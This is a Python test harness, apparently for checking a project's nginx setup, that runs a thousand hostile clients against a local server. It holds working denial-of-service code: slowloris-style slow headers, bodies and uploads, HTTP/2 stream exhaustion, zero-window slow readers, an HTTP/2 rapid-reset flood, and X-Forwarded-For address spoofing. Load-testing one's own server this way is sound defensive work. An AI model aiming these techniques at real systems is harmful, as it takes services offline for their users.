# SPDX-License-Identifier: ISC
"""Clients that mean harm, a thousand connections at a time, in a process of their own: python3 hostile_clients.py KIND
SOURCE
HTTP_PORT HTTPS_PORT. It prints "ready" when all are there, and goes on until its standard input ends.

SOURCE "address": all come from 127.0.0.66. "network": each request says by X-Forwarded-For that it is another address
of one /64.
"""
import itertools
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time

CONNECTIONS = 1000
STREAMS = 32  # of one HTTP/2 connection
ADDRESS = "127.0.0.66"
NETWORK = "2001:db8:bad:1::"

DATA, HEADERS, RESET, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS = 1, 4


class Source:
    def __init__(self, kind):
        self.plain = kind == "address"
        self.numbers = itertools.count(1)

    def connect(self, port):
        peer = socket.socket()
        if self.plain:
            peer.bind((ADDRESS, 0))
        peer.settimeout(20)
        peer.connect(("127.0.0.1", port))
        return peer

    def headers(self):
        return [] if self.plain else [("x-forwarded-for", f"{NETWORK}{next(self.numbers):x}")]


# --- HTTP/1.1 ------------------------------------------------------------------------------------
def head(method, path, source, *headers):
    lines = [
        f"{method} {path} HTTP/1.1",
        "Host: localhost",
        *headers,
        *(f"{name}: {value}" for name, value in source.headers()),
    ]
    return ("\r\n".join(lines) + "\r\n").encode()


def drip(source, port, requests):
    """Connections that have said the beginning, and say a byte each second from then on."""
    peers = []
    for number in range(CONNECTIONS):
        peer = source.connect(port)
        peer.sendall(requests[number % len(requests)]())
        peer.setblocking(False)
        peers.append(peer)
    yield "ready"
    while True:
        time.sleep(1)
        for peer in peers:
            try:
                peer.send(b"x")
            except OSError:
                pass
        yield None


def slow_headers(source, http_port, _):
    return drip(source, http_port, [lambda: head("GET", "/auth/me", source, "X-Slow: x")])


def slow_bodies(source, http_port, _):
    long = "Content-Length: 10000"
    return drip(
        source,
        http_port,
        [lambda: head("POST", "/auth/refresh", source, "Content-Type: application/json", long) + b"\r\n{"],
    )


def slow_logins(source, http_port, _):
    long = "Content-Length: 10000"
    return drip(
        source,
        http_port,
        [lambda: head("POST", "/auth/login", source, "Content-Type: application/json", long) + b"\r\n{"],
    )


def slow_uploads(source, http_port, _):
    """Without a token, and with one that is none."""
    long = "Content-Length: 1000000"
    return drip(
        source,
        http_port,
        [
            lambda m=method, p=path, t=token: head(m, p, source, long, "Tus-Resumable: 1.0.0", *t) + b"\r\nx"
            for method, path in (
                ("PUT", "/media/media/1/file"),
                ("PATCH", "/uploads/" + "0" * 32),
                ("POST", "/uploads"),
            )
            for token in ((), ("Authorization: Bearer x.y.z",))
        ],
    )


# --- HTTP/2 (RFC 9113), every header spelt out (RFC 7541 section 6.2.2) ----------------------------
def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def spelt(headers):
    return b"".join(
        b"\0" + struct.pack("!B", len(name)) + name.encode() + struct.pack("!B", len(value)) + value.encode()
        for name, value in headers
    )


def open_stream(stream, method, path, source, flags=0):
    fields = [
        (":method", method),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", path),
        *source.headers(),
    ]
    return frame(HEADERS, END_HEADERS | flags, stream, spelt(fields))


def http2(source, port, window=65535):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    peer = context.wrap_socket(source.connect(port), server_hostname="localhost")
    peer.sendall(
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, window))
        + frame(SETTINGS, 1, 0)
    )
    return peer


def streams(source, port, method, path, flags, window=65535):
    """As many streams as a connection may have, and as many again whenever they ended."""
    peers = {}

    def fill(number):
        peer, first = peers.pop(number, (None, 1))
        try:
            peer = peer or http2(source, port, window)
            peer.settimeout(1)
            peer.sendall(
                b"".join(open_stream(n, method, path, source, flags) for n in range(first, first + 2 * STREAMS, 2))
            )
            while select.select([peer], [], [], 0)[0]:
                if not peer.recv(65536):
                    return
            peers[number] = peer, first + 2 * STREAMS
        except OSError:
            pass  # closed: a new one, the next time

    for number in range(CONNECTIONS // STREAMS):
        fill(number)
    yield "ready"
    while True:
        time.sleep(0.5)
        for number in range(CONNECTIONS // STREAMS):
            fill(number)
        yield None


def streams_without_bodies(source, _, https_port):
    return streams(source, https_port, "POST", "/auth/refresh", 0)


def streams_of_no_route(source, _, https_port):
    return streams(source, https_port, "PUT", "/auth/me", 0)


def slow_readers(source, _, https_port):
    """A window of no byte: the answers wait in nginx."""
    return streams(source, https_port, "GET", "/auth/me", END_STREAM, window=0)


def resets(source, _, https_port):
    """Streams that are opened and reset at once, on connections that are made anew as nginx closes them."""

    def one():
        while True:
            try:
                peer = http2(source, https_port)
                for first in range(1, 2**20, 2 * STREAMS):
                    peer.sendall(
                        b"".join(
                            open_stream(n, "GET", "/auth/me", source, END_STREAM)
                            + frame(RESET, 0, n, struct.pack("!I", 8))
                            for n in range(first, first + 2 * STREAMS, 2)
                        )
                    )
                    while select.select([peer], [], [], 0)[0] and peer.recv(65536):
                        pass
                    time.sleep(0.02)  # the machine is for those who are attacked, too
            except OSError:
                time.sleep(0.01)

    for _ in range(4):
        threading.Thread(target=one, daemon=True).start()
    yield "ready"
    while True:
        time.sleep(1)
        yield None


KINDS = {
    f.__name__: f
    for f in (
        slow_headers,
        slow_bodies,
        slow_logins,
        slow_uploads,
        streams_without_bodies,
        streams_of_no_route,
        slow_readers,
        resets,
    )
}


def main():
    kind, source, http_port, https_port = sys.argv[1:]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096) if hard != resource.RLIM_INFINITY else 4096, hard))
    for said in KINDS[kind](Source(source), int(http_port), int(https_port)):
        if said:
            print(said, flush=True)
        if select.select([sys.stdin], [], [], 0)[0]:
            return


if __name__ == "__main__":
    main()
